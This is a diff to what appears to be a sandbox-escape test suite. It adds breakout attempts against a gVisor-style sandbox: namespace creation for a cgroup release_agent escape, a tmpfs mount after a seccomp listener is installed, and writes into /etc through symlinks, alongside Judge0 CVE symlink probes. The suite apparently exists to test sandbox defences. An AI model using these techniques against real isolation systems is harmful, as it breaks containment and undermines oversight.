@@ -167,6 +167,9 @@ def a_cgroup_release_agent():
         attempt("release_agent_" + (ctl or "root"), lambda b=base: write_file(b + "/release_agent", b"/tmp/pwn"))
         attempt("notify_" + (ctl or "root"), lambda b=base: write_file(b + "/notify_on_release", b"1"))
     attempt("procs", lambda: write_file("/sys/fs/cgroup/pids/cgroup.procs", b"0"))
+    # no cgroupfs to write (gVisor's /sys is empty): the PoC's own way, a
+    # cgroup mount of its own in new user, mount and cgroup namespaces
+    sc("unshare", 0x10000000 | 0x00020000 | 0x02000000)
 
 
 def a_mknod():
@@ -425,6 +428,8 @@ def a_create_cgroup():
     for ctl in ("pids", "memory", "cpu", "unified", ""):
         base = "/sys/fs/cgroup/" + ctl if ctl else "/sys/fs/cgroup"
         attempt("mkdir " + base, lambda b=base: os.mkdir(b + "/rt-" + TOKEN))
+    # no cgroupfs there (gVisor): make the directories it would be mounted on
+    attempt("makedirs", lambda: os.makedirs("/sys/fs/cgroup/rt-" + TOKEN))
 
 
 # ---------------------------------------------------------------- tampering with the harness
@@ -461,6 +466,8 @@ def a_seccomp_listener():
     libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
     r = libc.syscall(ctypes.c_long(317), ctypes.c_long(1), ctypes.c_long(8), ctypes.byref(filt))
     say("seccomp_listener", "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"))
+    # the payload it hoped its listener would let through
+    sc("mount", b"none", b"/tmp", b"tmpfs", 0, 0)
 
 
 # ---------------------------------------------------------------- symlinks against the supervisor (Judge0 CVE-2024-28185/28189)
@@ -478,6 +485,8 @@ def a_symlink_dir():
     # a directory link out of /work, then a file created beneath it
     attempt("dirlink", lambda: os.symlink(HOSTDIR, "/work/host"))
     attempt("create_beneath", lambda: write_file("/work/host/rt-" + TOKEN, b"pwned\n"))
+    attempt("etclink", lambda: os.symlink("/etc", "/tmp/etc"))
+    attempt("create_in_etc", lambda: write_file("/tmp/etc/rt-" + TOKEN, b"pwned\n"))
     attempt("hardlink", lambda: os.link("/etc/passwd", "/work/passwd"))
 
 
